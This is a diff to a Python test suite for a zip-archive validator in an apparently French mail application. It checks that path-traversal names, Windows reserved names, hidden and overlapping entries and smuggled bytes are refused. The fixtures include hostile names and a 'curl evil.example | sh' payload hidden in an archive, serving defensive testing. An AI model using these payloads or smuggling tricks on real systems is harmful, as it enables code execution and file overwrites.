@@ -10,10 +10,11 @@ import io
 import os
 import stat
 import struct
-import warnings
 import zipfile
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 
 from messagerie.models.rules.zipcheck import (
     DEFAULT_LIMITS,
@@ -22,6 +23,15 @@ from messagerie.models.rules.zipcheck import (
     ZipRefused,
     extract_member,
     inspect_zip,
+    locate_zip,
+)
+from tests.helpers.zips import (
+    central_records,
+    hide_entry,
+    make_zip,
+    streamed_zip,
+    weasyprint_pdf,
+    with_records,
 )
 
 DCE_FILES = {
@@ -29,20 +39,6 @@ DCE_FILES = {
     "CCAP_JLT20240229-1.pdf": b"%PDF-1.7\ncahier des clauses\n" * 60,
     "RC_P_JLT20240229-1.pdf": b"%PDF-1.7\nreglement de consultation\n" * 30,
 }
-
-
-def make_zip(
-    members: dict[str, bytes] | list[tuple[str | zipfile.ZipInfo, bytes]],
-    method: int = zipfile.ZIP_DEFLATED,
-) -> bytes:
-    buffer = io.BytesIO()
-    items = members.items() if isinstance(members, dict) else members
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # zipfile warns about duplicate names
-        with zipfile.ZipFile(buffer, "w", compression=method) as archive:
-            for name, data in items:
-                archive.writestr(name, data)
-    return buffer.getvalue()
 
 
 def patch_flags(data: bytes, set_bits: int = 0, clear_bits: int = 0) -> bytes:
@@ -232,3 +228,193 @@ def test_sizes_announced_by_the_headers_are_not_trusted():
     error = refusal(bytes(data))
     assert error.member == "RC.pdf"
     assert "corrompue" in error.message
+
+
+# --- Names that Windows reads otherwise ---------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        (".. /.. /evil.bat", "que Windows lit comme « . » ou « .. »"),
+        ("... /x", "que Windows lit comme « . » ou « .. »"),
+        ("DCE/ ./x.pdf", "que Windows lit comme « . » ou « .. »"),
+        ("\uff0e\uff0e/x", "remonte dans l'arborescence"),  # full-width dots
+        ("DCE/\u2025/x", "remonte dans l'arborescence"),  # "‥", two dots in one character
+        ("\uff0e\uff0e\uff0fevil.bat", "remonte dans l'arborescence"),  # full-width slash too
+        ("rc.pdf:Zone.Identifier", "flux caché du fichier (NTFS)"),
+        ("CCAP?.pdf", "un caractère interdit dans les noms Windows"),
+        ("CON", "nom réservé par Windows"),
+        ("prn.txt", "nom réservé par Windows"),
+        ("DCE/Aux.pdf", "nom réservé par Windows"),
+        ("NUL .pdf", "nom réservé par Windows"),
+        ("COM1.docx", "nom réservé par Windows"),
+        ("LPT9", "nom réservé par Windows"),
+        ("COM\u00b9.txt", "nom réservé par Windows"),  # "COM¹", which Windows reserves too
+        ("RC.pdf.", "finit par un point ou une espace"),
+        ("RC.pdf ", "finit par un point ou une espace"),
+    ],
+)
+def test_names_windows_would_read_otherwise_are_refused(name, reason):
+    error = refusal(make_zip([("RC.pdf", b"%PDF-"), (name, b"owned")]))
+    assert reason in error.message
+    assert error.member == name
+
+
+def test_a_name_that_windows_would_merge_with_another_is_refused():
+    for twin in ("a.txt.", "a.txt "):
+        error = refusal(make_zip([("a.txt", b"1"), (twin, b"2")]))
+        assert error.member == twin
+        assert "Windows les supprime, et ce fichier en écraserait un autre" in error.message
+
+
+def test_a_file_and_a_folder_of_the_same_name_are_refused():
+    for members in ([("Annexes", b"1"), ("annexes/BPU.pdf", b"2")], [("a/b", b"1"), ("A", b"2")]):
+        error = refusal(make_zip(members))
+        assert "font d'un même nom un fichier et un dossier" in error.message
+
+
+def test_ordinary_french_names_are_accepted():
+    names = [
+        "DCE/1 - Règlement de la consultation (RC).pdf",
+        "DCE/Annexe n°2 – BPU + DQE [v2].xlsx",
+        "DCE/.config/réglages.txt",
+        "Console.pdf",  # CON only as a whole stem
+        "COM10.txt",
+        "lisez-moi",
+    ]
+    listed = inspect_zip(make_zip([(name, b"x") for name in names]))
+    assert [member.path for member in listed] == names
+
+
+# --- The layout: one archive, every byte accounted for -------------------------------------
+
+
+def test_a_local_entry_missing_from_the_central_directory_is_refused():
+    """`jar x` walks the local headers: it would extract evil.sh and 50 MB that unzip -l and
+    zipfile never list."""
+    archive = make_zip(
+        [
+            ("RC.pdf", b"%PDF-1.7 reglement"),
+            ("evil.sh", b"#!/bin/sh\ncurl evil.example | sh\n"),
+            ("zeros.bin", bytes(50 * 1024**2)),
+            ("CCAP.pdf", b"%PDF-1.7 cahier"),
+        ]
+    )
+    hidden = hide_entry(hide_entry(archive, "evil.sh"), "zeros.bin")
+    assert zipfile.ZipFile(io.BytesIO(hidden)).namelist() == ["RC.pdf", "CCAP.pdf"]
+    error = refusal(hidden)
+    assert error.member == "evil.sh"
+    assert error.message.startswith(
+        "« evil.sh » est dans l'archive sans figurer dans son répertoire central"
+    )
+    assert refusal(hide_entry(archive, "zeros.bin")).member == "zeros.bin"
+
+
+def test_a_hidden_first_entry_is_refused():
+    archive = hide_entry(make_zip([("evil.bat", b"@echo off"), ("RC.pdf", b"%PDF-")]), "evil.bat")
+    assert refusal(archive).member == "evil.bat"
+
+
+def test_two_entries_sharing_their_bytes_are_refused():
+    """Overlapping entries (the "better zip bomb"): two names for one compressed kernel."""
+    archive = make_zip([("RC.pdf", b"%PDF-1.7 " + bytes(1000))])
+    offset, (record,) = central_records(archive)
+    twin = record[:46] + b"RD.pdf" + record[52:]
+    error = refusal(with_records(archive, offset, [record, twin]))
+    assert error.member == "RD.pdf"
+    assert "partage ses données avec « RC.pdf »" in error.message
+
+
+def test_a_local_header_that_disagrees_with_the_directory_is_refused():
+    data = bytearray(make_zip({"RC.pdf": b"%PDF-1.7 " + os.urandom(500)}, zipfile.ZIP_STORED))
+    struct.pack_into("<2L", data, 18, 100, 100)  # the local header says 100 bytes
+    error = refusal(bytes(data))
+    assert error.member == "RC.pdf"
+    assert "n'a pas la même taille dans son en-tête local et dans le répertoire central" in (
+        error.message
+    )
+    renamed = make_zip({"RC.pdf": b"%PDF-"}).replace(b"RC.pdf", b"RX.pdf", 1)
+    assert "porte un autre nom dans son en-tête local" in refusal(renamed).message
+
+
+def test_bytes_hidden_after_a_deflate_stream_are_refused():
+    """The compressed bytes end before their entry does: a streaming reader would take what
+    follows for another entry."""
+    archive = make_zip({"RC.pdf": b"%PDF-1.7 " + bytes(5000)})
+    offset, (record,) = central_records(archive)
+    extra = b"PK\x03\x04 hidden"
+    compressed = struct.unpack_from("<L", record, 20)[0] + len(extra)
+    patched = record[:20] + struct.pack("<L", compressed) + record[24:]
+    local = bytearray(archive[:offset])
+    struct.pack_into("<L", local, 18, compressed)
+    error = refusal(with_records(bytes(local) + extra, offset + len(extra), [patched]))
+    assert error.member == "RC.pdf"
+    assert "est suivi de données cachées dans l'archive" in error.message
+
+
+@pytest.mark.parametrize("prefix", [b"\x00", b"MZ" + bytes(62), b"%PDF-1.7\n%%EOF\n"])
+def test_bytes_before_the_archive_are_refused(prefix):
+    archive = prefix + make_zip(DCE_FILES)
+    assert locate_zip(archive).start == len(prefix)  # zip tools open it all the same
+    error = refusal(archive)
+    assert error.message.startswith(f"{len(prefix)} octet")
+    assert "précèdent l'archive" in error.message
+
+
+def test_bytes_after_the_archive_are_refused():
+    archive = make_zip(DCE_FILES) + weasyprint_pdf("caché")
+    assert "d'autres données suivent la fin de l'archive" in refusal(archive).message
+
+
+def test_archives_written_to_a_stream_or_with_zip64_fields_or_a_comment_are_accepted():
+    members = {"RC.pdf": b"%PDF-1.7 " + os.urandom(3000), "Lisez-moi.txt": b"Bonjour\n" * 99}
+    expected = tuple(ZipMember(name, len(data)) for name, data in members.items())
+    assert inspect_zip(streamed_zip(members)) == expected  # sizes after the data (bit 3)
+    assert inspect_zip(streamed_zip(members, zip64=True)) == expected
+    assert inspect_zip(make_zip(members, comment=b"DCE v2 du 12/03")) == expected
+
+
+def test_archives_in_archives_share_one_budget():
+    """The bytes decompressed by nested archives count together (see filetype)."""
+    from messagerie.models.rules.zipcheck import Budget, CheckedZip
+
+    budget, limits = Budget(), ZipLimits(max_nested_uncompressed=10_000)
+    archive = make_zip({"a.bin": os.urandom(6000)})
+    list(CheckedZip(archive, limits, budget).contents())
+    with pytest.raises(ZipRefused, match="archives contenues les unes dans les autres"):
+        list(CheckedZip(archive, limits, budget).contents())
+
+
+# --- Any input: an answer or a French refusal, never a crash ---------------------------------
+
+
+@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(st.lists(st.text(max_size=40).filter(lambda n: "\x00" not in n), min_size=1, max_size=6))
+def test_any_member_names_are_listed_or_refused(names):
+    """(A NUL in a name: test_a_nul_byte_hiding_the_real_extension_is_refused.)"""
+    try:
+        listed = inspect_zip(make_zip([(name or "vide", name.encode()) for name in names]))
+    except ZipRefused as refused:
+        assert refused.message.endswith(".")
+    else:
+        assert len(listed) <= len(names)
+
+
+@settings(max_examples=400, deadline=None)
+@given(st.data())
+def test_any_damage_to_an_archive_is_refused_or_harmless(data):
+    archive = bytearray(
+        data.draw(st.sampled_from([make_zip(DCE_FILES), streamed_zip(DCE_FILES)]), "archive")
+    )
+    for _ in range(data.draw(st.integers(1, 4), "changes")):
+        position = data.draw(st.integers(0, len(archive) - 1), "position")
+        archive[position : position + 4] = data.draw(
+            st.sampled_from([b"PK\x03\x04", b"PK\x05\x06", b"\xff\xff\xff\xff", b"\x00"])
+            | st.binary(min_size=1, max_size=4),
+            "bytes",
+        )
+    try:
+        inspect_zip(bytes(archive))
+    except ZipRefused as refused:
+        assert refused.message.endswith(".")
